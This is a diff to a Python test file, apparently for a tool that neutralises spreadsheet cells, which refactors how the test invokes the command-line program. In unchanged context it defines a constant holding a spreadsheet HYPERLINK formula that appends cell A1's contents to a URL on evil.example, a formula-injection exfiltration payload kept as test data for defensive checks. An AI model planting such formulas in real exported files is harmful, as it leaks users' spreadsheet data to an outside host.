@@ -7,22 +7,19 @@ from __future__ import annotations
 
 import csv
 import json
-import os
 import subprocess
-import sys
 from pathlib import Path
 
 from agentlens.process.cohort_rows import read_annotation_rows, read_score_rows
 from agentlens.spreadsheet_text import inert_cell, restored_cell
+from tests import whole_process
 
 TASK = "agentlens-bench-dev/trajectories/astropy__astropy-13236"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"gpt-4.1")'
 
 
 def agentlens(*args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
-    return subprocess.run([sys.executable, "-m", "agentlens", *args], capture_output=True,
-                          text=True, env=env, timeout=600)  # fmt: skip
+    return whole_process.agentlens(*args, timeout=600)
 
 
 def planted_task(data_dir: Path, tmp_path: Path) -> Path:
